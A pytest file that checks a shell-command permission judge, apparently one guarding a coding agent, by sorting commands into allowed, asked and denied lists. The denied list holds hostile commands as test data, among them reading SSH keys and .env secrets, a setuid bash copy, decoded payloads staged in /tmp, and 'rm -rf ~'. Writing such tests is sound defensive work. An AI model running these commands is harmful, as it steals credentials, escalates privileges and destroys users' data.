"""A developer's daily work outside the project asks or is allowed; the system stays denied.

Issue 12, item 5 ("reading outside the root is not writing outside it; ``cd DIR && …`` is
judged by what follows") and the benign forms the sandbox-path rule denied, reasoned from
what a developer does every day rather than from corpus rows:
- ``cd DIR && …`` into another checkout (``cd /testbed && python -m pytest``, SWE-bench's
  layout) asks (rule ``outside-cd``); ``/``, home, its hidden directories, the system's trees,
  the temporary directories themselves and ancestors of the project stay denied;
- scratch files below ``/tmp``, ``/var/tmp`` and ``~/.cache/<tool>`` ask (rule
  ``scratch-write``: pytest's ``--basetemp``, ``--junitxml``, ``cp dist/x.whl /tmp/``), and
  so does a script there that an interpreter runs (rule ``scratch-run``: ``python3
  /tmp/repro.py``, its here-document body judged as code, and that body's verdict when the
  command writes it once from a quoted here-document); a scratch file run by its own name,
  built or sourced, one whose body is only known at run time, a hidden entry, ``/dev/shm`` and
  the directories themselves stay denied;
- ``find … -exec CMD {} +`` judges ``{}`` as a file found under a start inside the project,
  named by the one ``-name`` test (``find . -name .env -exec cat {} +`` reads a secret);
- the readers of each tool's manual in their reading forms (``gunzip -c``, ``7z l``, ``openssl
  x509 -noout``, ``git diff --no-index``, ``man -l``, an archive extracted into the project);
- ``git config --global NAME`` (no value) reads; ``pip show -f`` lists files (not
  ``--find-links``); ``/etc/pam.d/common-password`` is the password policy (ART T1201);
- one class, one verdict: a package installed for the user (``npm install -g``,
  ``pip install --user``, ``yarn global add``, ``gem install --user-install``, ``npm link``)
  asks like ``cargo install`` (rule ``program-install``).
"""

from __future__ import annotations

from collections.abc import Callable, Sequence

import pytest

Judge = Callable[[Sequence[str]], dict[str, str]]

ALLOWED = [
    "cd /opt/other && ls",
    "cd /testbed && git log --oneline -5",
    "find . -name '*.py' -exec grep -l TODO {} +",
    "find src -name '*.ts' -exec wc -l {} +",
    "gunzip -c ~/Downloads/data.csv.gz | head",
    "xz -dc /usr/share/doc/x.xz",
    "gzip -l ~/x.gz",
    "7z l ~/x.7z",
    "openssl x509 -in /etc/ssl/certs/ca-certificates.crt -noout -subject",
    "git diff --no-index /etc/hosts hosts",
    "man -l /usr/share/man/man1/ls.1.gz",
    "journalctl --file /var/log/journal/system.journal",
    "eza -la /etc",
    "fd conf /usr/share/doc",
    "uniq /etc/shells",
    "tar -xzf ~/Downloads/lib.tgz -C vendor/",
    "unzip ~/Downloads/data.zip -d fixtures/",
    "ls /lib/modules/$(uname -r)",
    "cat /etc/pam.d/common-password",
    "git config --global user.name",
    "git config --global --get user.email",
    "git config get --global init.defaultBranch",
    "pip show -f requests",
    "npm install -f left-pad",
    # a regenerable artefact removed, as find -delete does (tests/shell/test_artefact_cleanup.py)
    "find . -name __pycache__ -exec rm -rf {} +",
    # a scratch script written from a quoted here-document and run: its body is the verdict
    # (tests/shell/test_judged_scratch_scripts.py)
    "cat > /tmp/repro.py <<'EOF'\nprint(1 + 1)\nEOF\npython3 /tmp/repro.py",
]

ASKED = [
    "cd /testbed && python -m pytest",
    "cd /testbed && python -m pytest tests/test_x.py -v 2>&1 | head -50",
    "cd ../other-checkout && make",
    "cd /tmp/build && make",
    "echo hi > /tmp/scratch.txt",
    "mkdir -p /tmp/build && cp a.txt /tmp/build/",
    "cp dist/app.whl /tmp/",
    "python -m pytest --basetemp=/tmp/pytest-x",
    "pytest --junitxml=/tmp/report.xml",
    "go test ./... -coverprofile=/tmp/cover.out",
    "rm -rf ~/.cache/pip",
    "find . -type f -exec chmod 777 {} +",  # as chmod -R 777 .
    "find . -name '*.py' -exec rm {} +",  # the project's code
    "npm install -g typescript",
    "pnpm add -g pnpm",
    "yarn global add serve",
    "pip install --user requests",
    "gem install --user-install rake",
    "npm link",
    "cargo install ripgrep",
    # a scratch script an interpreter runs (rule scratch-run): coding agents write a
    # reproduction script to /tmp and run it
    "python /tmp/repro.py",
    "PYTHONPATH=src python3 /tmp/test_fix.py",
    "node /tmp/a.js",
    "bash /tmp/x.sh",
    "echo 'id' > /tmp/x.sh && bash /tmp/x.sh",  # its body is judged: id runs
]

DENIED = [
    "cd /etc && rm passwd",
    "cd / && rm -rf tmp",
    "cd ~ && rm -rf src",
    "cd ~/.config && rm -rf nvim",
    "cd .. && rm -rf project",
    "cd /tmp && rm -rf *",
    "cd /var/www && rm -rf html",
    "cd ~/.ssh && cat id_rsa",
    "rm -rf ~/.cache",
    "echo x > /tmp/.x",
    "echo x > /dev/shm/x",
    "echo \"$PAYLOAD\" > /tmp/x.sh && bash /tmp/x.sh",  # a body only known at run time
    "chmod +x /tmp/x.sh && /tmp/x.sh",
    "echo aW1wb3J0IG9z | base64 -d > /tmp/x.py && python3 /tmp/x.py",  # decoded body
    "cp evil.py /tmp/x.py && python3 /tmp/x.py",  # a body the command does not show
    "cat > /tmp/x.sh <<EOF\n$PAYLOAD\nEOF\nbash /tmp/x.sh",  # an unquoted body expands
    'cat > /tmp/x.sh <<< "$P" && bash /tmp/x.sh',
    "cat > /tmp/x.py <<'EOF'\nimport os; os.system('rm -rf ~')\nEOF\npython3 /tmp/x.py",
    "go run /tmp/t.go",
    "python3 /tmp/.x.py",
    "python3 /dev/shm/x.py",
    "python3 /tmp/*.py",
    "cp /bin/bash /tmp/b && chmod +s /tmp/b && /tmp/b -p",
    "cp /bin/sh /tmp/crond; echo 'sleep 5' | /tmp/crond",
    "cp .env /tmp/x",
    "find . -name .env -exec cat {} \\;",
    "find ~/.ssh -exec cat {} \\;",
    "find . -exec cp {} ~/x \\;",
    "uniq x /etc/passwd",
    "openssl x509 -in /etc/ssl/certs/ca-certificates.crt -out /etc/x.pem",
    "unzip ~/Downloads/x.zip -d ~/.config",
    "tar -xzf ~/Downloads/x.tgz -C ~/",
    "git config --global user.name X",
    "git config --global --unset user.name",
    "git config set --global core.pager 'sh -c id'",
    "pip install --break-system-packages x",
    "gem install --system rake",
    "pip install -f evilhost x",
    "cat /etc/security/opasswd",
]

ASKED_AT_LEAST = [
    "find -L . -exec rm {} +",  # follows links out: {} stays run-time
    "find . -name '*.sh' -exec {} \\;",  # runs what it finds
]


@pytest.mark.parametrize("command", ALLOWED)
def test_daily_reads_and_project_work_are_allowed(default_verdicts: Judge, command: str) -> None:
    assert default_verdicts([command])[command] == "allow"


@pytest.mark.parametrize("command", ASKED)
def test_daily_work_outside_the_project_asks(default_verdicts: Judge, command: str) -> None:
    assert default_verdicts([command])[command] == "ask"


@pytest.mark.parametrize("command", DENIED)
def test_the_system_settings_and_staged_payloads_stay_denied(default_verdicts: Judge,
                                                             command: str) -> None:
    assert default_verdicts([command])[command] == "deny"


@pytest.mark.parametrize("command", ASKED_AT_LEAST)
def test_a_found_file_not_known_statically_is_never_allowed(default_verdicts: Judge,
                                                            command: str) -> None:
    assert default_verdicts([command])[command] != "allow"
